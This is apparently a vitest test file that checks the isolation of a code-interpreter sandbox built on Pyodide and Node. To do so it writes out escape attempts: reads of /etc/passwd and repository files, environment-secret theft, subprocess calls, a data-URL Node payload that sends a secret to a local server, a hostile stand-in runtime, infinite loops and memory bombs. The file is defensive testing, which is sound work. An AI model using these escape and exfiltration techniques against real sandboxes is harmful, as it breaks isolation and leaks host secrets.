import { randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createTestToolContext } from '@spora/sdk/testing';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { CodeInterpreterTool } from '../../src/tools/builtin/code-interpreter/code-interpreter-tool.js';
import { limitsFromSettings } from '../../src/tools/builtin/code-interpreter/sandbox-limits.js';
import { runSandboxJob } from '../../src/tools/builtin/code-interpreter/sandbox-process.js';
import { type LocalHttpServer, startLocalHttpServer } from '../support/local-http-server.js';

/**
 * Code that tries to leave the sandbox: the host's files, its environment, its processes and the
 * network, through the languages' own means and through Pyodide's bridge to JavaScript, and code
 * that never ends or eats memory. Each attempt prints "LEAK" where it would have succeeded.
 */
const tool = new CodeInterpreterTool();
const runTimeout = 90_000;
const repositoryManifest = fileURLToPath(new URL('../../../../package.json', import.meta.url));
const secret = `sandbox-secret-${randomBytes(8).toString('hex')}`;

const run = (language: string, code: string, settings: Record<string, string> = {}) =>
  tool.execute({ language, code }, createTestToolContext({ operation: 'run', settings }));

/** Python that finds a JavaScript object with `attribute` anywhere in the interpreter's memory. */
const findJs = `
import gc
from pyodide.ffi import JsProxy
def find_js(attribute):
    for holder in gc.get_objects():
        values = holder.values() if isinstance(holder, dict) else holder if isinstance(holder, (list, tuple)) else ()
        for value in list(values):
            try:
                if isinstance(value, JsProxy) and hasattr(value, attribute):
                    return value
            except BaseException:
                pass
    return None
def attempt(name, action):
    try:
        print(name, "LEAK", repr(action())[:200])
    except BaseException as error:
        print(name, "refused:", type(error).__name__)
`;

/**
 * Node code that would do harm from inside the sandbox process, as a module Pyodide's script
 * loader would import (it imports any address with "://" in it). Should Python find that loader,
 * the process's own walls must still hold: each step fails, and the test sees no effect on the host.
 */
function nodePayload(hostFile: string, origin: string): string {
  const body = `
import { execSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { request } from 'node:http';
const steps = [
  () => execSync(${JSON.stringify(`touch ${hostFile}`)}),
  () => writeFileSync(${JSON.stringify(hostFile)}, 'x'),
  () => request(${JSON.stringify(`${origin}/payload?secret=`)} + process.env.SPORA_SANDBOX_TEST_SECRET).end(),
  () => fetch(${JSON.stringify(`${origin}/payload`)}),
  () => process.kill(process.ppid, 0),
];
for (const step of steps) {
  try {
    step();
  } catch {}
}`;
  return `data:text/javascript,//://%0A${encodeURIComponent(body)}`;
}

/** A stand-in for Pyodide's package whose `loadPyodide` attacks the host from the sandbox process. */
function hostileRuntime(target: { hostFile: string; origin: string; addon: string }): string {
  const url = new URL(target.origin);
  return `
import { createRequire } from 'node:module';
const require = createRequire(import.meta.url);
export async function loadPyodide() {
  const attempts = {};
  const attempt = async (name, action) => {
    try {
      await action();
      attempts[name] = 'LEAK';
    } catch (error) {
      attempts[name] = String(error?.code ?? error?.name ?? error);
    }
  };
  const fs = require('node:fs');
  const hostFile = ${JSON.stringify(target.hostFile)};
  await attempt('read /etc/passwd', () => fs.readFileSync('/etc/passwd'));
  await attempt('read the repository', () => fs.readFileSync(${JSON.stringify(repositoryManifest)}));
  await attempt('write a host file', () => fs.writeFileSync(hostFile, 'x'));
  await attempt('start a process', () => require('node:child_process').execSync('touch ' + hostFile));
  await attempt('start a worker', () => new (require('node:worker_threads').Worker)('1', { eval: true }));
  await attempt('signal the server', () => process.kill(process.ppid, 0));
  await attempt('raw socket binding', () => process.binding('tcp_wrap'));
  await attempt('load a native addon', () => process.dlopen({ exports: {} }, ${JSON.stringify(target.addon)}));
  await attempt('connect over TCP', () => new Promise((resolve, reject) => {
    require('node:net').connect(${url.port}, ${JSON.stringify(url.hostname)}).on('connect', resolve).on('error', reject);
  }));
  await attempt('send an HTTP request', () => new Promise((resolve, reject) => {
    require('node:http').get(${JSON.stringify(`${target.origin}/from-node`)}, resolve).on('error', reject);
  }));
  await attempt('fetch', () => fetch(${JSON.stringify(`${target.origin}/from-fetch`)}));
  await attempt('send a datagram', () => require('node:dgram').createSocket('udp4').send('x', ${url.port}, '127.0.0.1'));
  await attempt('look up a name', () => require('node:dns').promises.lookup('localhost'));
  await attempt('open the inspector', () => require('node:inspector').open(0));
  await attempt('WASI with the root folder', () => new (require('node:wasi').WASI)({ version: 'preview1', preopens: { '/': '/' } }));
  await attempt('write a heap snapshot', () => require('node:v8').writeHeapSnapshot(hostFile));
  await attempt('eval', () => eval('1'));
  throw new Error(JSON.stringify({ attempts, environment: Object.keys(process.env) }));
}
`;
}

describe('code_interpreter sandbox walls', () => {
  let server: LocalHttpServer;
  let hostFile: string;

  beforeAll(async () => {
    process.env.SPORA_SANDBOX_TEST_SECRET = secret;
    server = await startLocalHttpServer((_request, response) => {
      response.writeHead(200, { 'content-type': 'text/plain' }).end('LEAK from the network');
    });
  });

  afterAll(async () => {
    delete process.env.SPORA_SANDBOX_TEST_SECRET;
    await server.close();
  });

  beforeEach(() => {
    server.requests.length = 0;
    hostFile = join(tmpdir(), `spora-sandbox-escape-${randomBytes(6).toString('hex')}`);
  });

  const expectHostUntouched = async (output: string) => {
    // A connection that was started would have arrived by now.
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(server.requests).toEqual([]);
    expect(existsSync(hostFile)).toBe(false);
    rmSync(hostFile, { force: true });
    expect(output).not.toContain('LEAK');
    expect(output).not.toContain(secret);
    expect(output).not.toContain('root:x:0');
    expect(output).not.toContain('"workspaces"');
  };

  it(
    "keeps Python away from the host's files, environment and processes, whatever bridge it tries",
    async () => {
      const code = `${findJs}
import os, subprocess
attempt("passwd", lambda: open("/etc/passwd").read())
attempt("manifest", lambda: open(${JSON.stringify(repositoryManifest)}).read())
attempt("environ", lambda: [value for value in os.environ.values() if value.startswith("sandbox-secret-")] or 1 / 0)
attempt("subprocess", lambda: subprocess.run(["touch", ${JSON.stringify(hostFile)}]))
attempt("system", lambda: os.system("touch ${hostFile}") == 0 or 1 / 0)
attempt("run_js", lambda: __import__("pyodide.code", fromlist=["run_js"]).run_js("process.env"))
attempt("js", lambda: __import__("js").process.env)
import pyodide_js
attempt("pyodide_js mount", lambda: pyodide_js.mountNodeFS("/host", "/etc"))
api = find_js("mountNodeFS")
if api is not None:
    attempt("found api mount", lambda: (api.mountNodeFS("/host", "/etc"), open("/host/passwd").read())[1])
    attempt("found api manifest", lambda: (api.mountNodeFS("/repo", ${JSON.stringify(join(repositoryManifest, '..'))}), open("/repo/package.json").read())[1])
    attempt("found api eval", lambda: api.runPython("1") and api._api.loadScript("data:text/javascript,//://%0Aprocess.kill(process.ppid)"))
module = find_js("HEAPU8")
if module is not None:
    attempt("module require", lambda: module.require("child_process").execSync("touch ${hostFile}"))
loader = find_js("loadScript")
if loader is not None:
    try:
        await loader.loadScript(${JSON.stringify(nodePayload(hostFile, server.origin))})
        print("payload ran")
    except BaseException as error:
        print("payload refused:", type(error).__name__)
with open("/tmp/written-inside", "w") as inside:
    inside.write("stays in the sandbox")
attempt("host write", lambda: open(${JSON.stringify(hostFile)}, "w").write("x") and 1 / 0)
print("still here")
`;
      const result = await run('python', code);
      const output = `${result.content}\n${JSON.stringify(result.data)}`;
      expect(result.data?.stdout).toContain('still here');
      expect(result.data?.stdout).toMatch(/passwd refused: (FileNotFoundError|PermissionError)/);
      expect(result.data?.stdout).toContain('environ refused: ZeroDivisionError');
      await expectHostUntouched(output);
    },
    runTimeout,
  );

  it(
    'keeps Python off the network: sockets, urllib, pyfetch, js.fetch, run_js and Node sockets all fail',
    async () => {
      const url = `${server.origin}/`;
      const code = `${findJs}
import socket, urllib.request
attempt("urllib", lambda: urllib.request.urlopen(${JSON.stringify(url)}, timeout=2).read())
def raw_socket():
    connection = socket.create_connection(("127.0.0.1", ${server.port}), timeout=2)
    connection.sendall(b"GET /socket HTTP/1.0\\r\\n\\r\\n")
    return connection.recv(100) or 1 / 0
attempt("socket", raw_socket)
try:
    from pyodide.http import pyfetch
    response = await pyfetch(${JSON.stringify(url)})
    print("pyfetch LEAK", await response.string())
except BaseException as error:
    print("pyfetch refused:", type(error).__name__)
attempt("js.fetch", lambda: __import__("js").fetch(${JSON.stringify(url)}))
attempt("run_js", lambda: __import__("pyodide.code", fromlist=["run_js"]).run_js("fetch('${url}')"))
api = find_js("useNodeSockFS")
if api is not None:
    try:
        await api.useNodeSockFS()
        raw_socket()
        print("node socket LEAK")
    except BaseException as error:
        print("node socket refused:", type(error).__name__)
    try:
        await api.loadPackage(${JSON.stringify(`${url}package.whl`)})
    except BaseException as error:
        print("loadPackage refused:", type(error).__name__)
print("still here")
`;
      const result = await run('python', code, { timeout_seconds: '30' });
      expect(result.data?.stdout).toContain('still here');
      expect(result.data?.stdout).toContain('run_js refused');
      await expectHostUntouched(`${result.content}\n${JSON.stringify(result.data)}`);
    },
    runTimeout,
  );

  it(
    'gives JavaScript no host objects, no host files and no network, and keeps its fs inside the sandbox',
    async () => {
      const code = `
const kinds = ['process', 'require', 'module', 'fetch', 'XMLHttpRequest', 'WebSocket', 'std', 'os', 'Deno', 'Bun', 'Buffer', 'setTimeout'];
const found = kinds.filter((name) => typeof globalThis[name] !== 'undefined');
const attempt = (action) => { try { return 'LEAK ' + String(action()).slice(0, 100); } catch (error) { return 'refused: ' + error.message; } };
const attempts = {
  found,
  viaFunction: new Function('return typeof process')(),
  passwd: attempt(() => fs.readFileSync('/etc/passwd', 'utf8')),
  manifest: attempt(() => fs.readFileSync(${JSON.stringify(repositoryManifest)}, 'utf8')),
  climbing: attempt(() => fs.readFileSync('../../../../package.json', 'utf8')),
  write: attempt(() => fs.writeFileSync(${JSON.stringify(hostFile)}, 'x')),
};
import('node:child_process').then(
  () => ({ ...attempts, importing: 'LEAK' }),
  (error) => ({ ...attempts, importing: 'refused: ' + error.message }),
)`;
      const result = await run('javascript', code);
      expect(result.success).toBe(true);
      const value = JSON.parse(String(result.data?.value)) as Record<string, unknown>;
      expect(value).toMatchObject({ found: [], viaFunction: 'undefined' });
      expect(value.passwd).toMatch(/^refused: ENOENT/);
      expect(value.write).toMatch(/^refused: EACCES/);
      expect(value.importing).toMatch(/^refused: /);
      await expectHostUntouched(`${result.content}\n${JSON.stringify(result.data)}`);
    },
    runTimeout,
  );

  it(
    'holds even against JavaScript running in the sandbox process itself: no files, processes, signals or network',
    async () => {
      // The worst case: code that got past the runtime to Node. A runtime package of the test's making
      // tries everything as soon as the sandbox loads it, and reports what happened as its failure.
      const runtimeFolder = mkdtempSync(join(tmpdir(), 'spora-hostile-runtime-'));
      const addon = join(
        dirname(createRequire(import.meta.url).resolve('better-sqlite3/package.json')),
        'build/Release/better_sqlite3.node',
      );
      writeFileSync(
        join(runtimeFolder, 'pyodide.mjs'),
        hostileRuntime({ hostFile, origin: server.origin, addon }),
      );
      try {
        const { languages: _all, ...limits } = limitsFromSettings({ timeout_seconds: '10' });
        const job = {
          runtime: { language: 'python', pyodideFolder: `${runtimeFolder}/` },
          code: '',
          files: [],
          limits,
        } as const;
        const run = await runSandboxJob(job, [runtimeFolder], new AbortController().signal);
        expect(run.outcome).toMatchObject({ ok: false, code: 'SANDBOX_FAILED' });
        const message = run.outcome.ok ? '' : run.outcome.message;
        const report = JSON.parse(message.slice(message.indexOf('{'))) as {
          attempts: Record<string, string>;
          environment: string[];
        };
        expect(report.environment).toEqual([]);
        expect(Object.keys(report.attempts)).toHaveLength(17);
        for (const [attempt, outcome] of Object.entries(report.attempts)) {
          expect(outcome, attempt).not.toBe('LEAK');
        }
        expect(report.attempts).toMatchObject({
          'read /etc/passwd': 'ERR_ACCESS_DENIED',
          'read the repository': 'ERR_ACCESS_DENIED',
          'write a host file': 'ERR_ACCESS_DENIED',
          'start a process': 'ERR_ACCESS_DENIED',
          'start a worker': 'ERR_ACCESS_DENIED',
          'signal the server': 'ERR_ACCESS_DENIED',
          'load a native addon': 'ERR_ACCESS_DENIED',
          'connect over TCP': 'ERR_ACCESS_DENIED',
          'send an HTTP request': 'ERR_ACCESS_DENIED',
          'look up a name': 'ERR_ACCESS_DENIED',
          'send a datagram': 'ERR_ACCESS_DENIED',
          'open the inspector': 'ERR_ACCESS_DENIED',
          'WASI with the root folder': 'ERR_ACCESS_DENIED',
          'write a heap snapshot': 'ERR_ACCESS_DENIED',
          eval: 'EvalError',
        });
        await expectHostUntouched(message);
      } finally {
        rmSync(runtimeFolder, { recursive: true, force: true });
      }
    },
    runTimeout,
  );

  it(
    'stops runaway loops at the time limit in both languages, and the next run works',
    async () => {
      const settings = { timeout_seconds: '2' };
      for (const [language, code] of [
        ['javascript', 'for (;;) {}'],
        ['javascript', 'const spin = async () => { for (;;) {} };\nspin()'],
        ['python', 'print("spinning")\nwhile True:\n    pass'],
      ] as const) {
        const started = performance.now();
        const result = await run(language, code, settings);
        expect(result.success, `${language}: ${code}`).toBe(false);
        expect(result.data).toMatchObject({ error_code: 'TIMEOUT' });
        expect(result.content).toContain('The code ran longer than the time limit (2 s) and was stopped.');
        expect(Number(result.data?.run_ms)).toBeGreaterThanOrEqual(1_900);
        expect(Number(result.data?.run_ms)).toBeLessThan(8_000);
        expect(performance.now() - started).toBeLessThan(70_000);
        if (language === 'python') expect(result.data?.stdout).toBe('spinning\n');
      }
      expect(await run('python', '6 * 7')).toMatchObject({ success: true, data: { value: '42' } });
    },
    runTimeout * 2,
  );

  it(
    'stops memory bombs at the memory limit in both languages without harming the server',
    async () => {
      const settings = { memory_mb: '128', timeout_seconds: '60' };
      const before = process.memoryUsage().rss;
      const bombs = [
        ['javascript', 'const hog = [];\nfor (;;) hog.push(new Array(100000).fill(Math.random()));'],
        ['javascript', "const parts = [];\nfor (let i = 0; ; i++) parts.push('x'.repeat(1_000_000) + i);"],
        ['javascript', 'new Uint8Array(1_000_000_000).length'],
        ['python', 'hog = []\nwhile True:\n    hog.append(bytearray(10_000_000))'],
        ['python', 'block = bytearray(1_000_000_000)'],
      ] as const;
      for (const [language, code] of bombs) {
        const result = await run(language, code, settings);
        expect(result.success, `${language}: ${code}`).toBe(false);
        expect(result.data).toMatchObject({ error_code: 'MEMORY_LIMIT' });
        expect(result.content).toMatch(
          /^The code used more than the memory limit \(128 MB\) and was stopped\./,
        );
      }
      // The memory was the sandbox's: the server's own grew by little, and it still runs code.
      expect(process.memoryUsage().rss - before).toBeLessThan(200 * 1024 * 1024);
      expect(await run('javascript', '[1, 2, 3].length')).toMatchObject({
        success: true,
        data: { value: '3' },
      });
      expect(await run('python', 'len("still fine")')).toMatchObject({
        success: true,
        data: { value: '10' },
      });
    },
    runTimeout * 2,
  );
});
